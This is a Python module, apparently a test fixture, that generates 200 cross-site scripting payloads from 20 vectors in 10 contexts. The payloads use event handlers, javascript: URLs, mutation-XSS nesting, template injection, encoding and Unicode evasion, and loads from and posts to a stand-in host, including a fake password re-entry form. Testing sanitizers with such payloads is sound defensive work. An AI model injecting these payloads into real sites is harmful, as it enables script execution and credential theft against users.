"""200 texts that try to become markup or script where they are shown: 20 vectors in 10 surroundings.

Each script sets `window.hit`. No payload loads anything that exists.
"""

from collections.abc import Callable, Mapping, Sequence

_DO = "window.hit=1"
_VECTORS: Sequence[str] = (
    f"<script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f'<svg><animate onbegin="{_DO}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{_DO}</script>"></iframe>',
    f"<details open ontoggle={_DO}>",
    f'<a href="javascript:{_DO}" id=trap>Continue</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f'<object data="data:text/html,<script>{_DO}</script>"></object>',
    '<embed src="//attacker.invalid/x.swf">',
    '<base href="//attacker.invalid/">',
    '<meta http-equiv=refresh content="0;url=//attacker.invalid/">',
    "<link rel=stylesheet href=//attacker.invalid/x.css>",
    "<style>@import '//attacker.invalid/x.css';*{display:none}</style>",
    "<form action=//attacker.invalid/><input name=password><button>Sign in again</button></form>",
    f"<template><div onclick={_DO}></div></template><dialog open>Session over</dialog>",
    f"<video><source onerror={_DO}>",
    f"{{{{constructor.constructor('{_DO}')()}}}}{{% set x = 1 %}}<%= {_DO} %>${{{_DO}}}",
    f"javascript:{_DO}//\u2028{_DO}",
)
_SURROUNDINGS: Mapping[str, Callable[[str], str]] = {
    "alone": lambda vector: vector,
    "after a double quote": lambda vector: f'x"> {vector}',
    "after a single quote": lambda vector: f"x' autofocus tabindex=1 onfocus={_DO} '>{vector}",
    "after a backtick": lambda vector: f"`>{vector}",
    "after raw text": lambda vector: f"</textarea></title></style></script></noscript>{vector}",
    "after a comment": lambda vector: f"<!--><!-- --!> ]]>{vector}",
    "in capitals": lambda vector: vector.upper().replace(_DO.upper(), _DO),
    "with a slash and a control": lambda vector: vector.replace(" on", "/\x0con").replace("<s", "<\x00s"),
    "escaped once": lambda vector: vector.replace("<", "&lt;").replace(">", "&#62;").replace("(", "&lpar;"),
    "escaped as JSON, right to left": lambda vector: "\u202e" + vector.replace("<", "\\u003c<\uff1c"),
}
PAYLOADS: Sequence[str] = tuple(around(vector) for around in _SURROUNDINGS.values() for vector in _VECTORS)
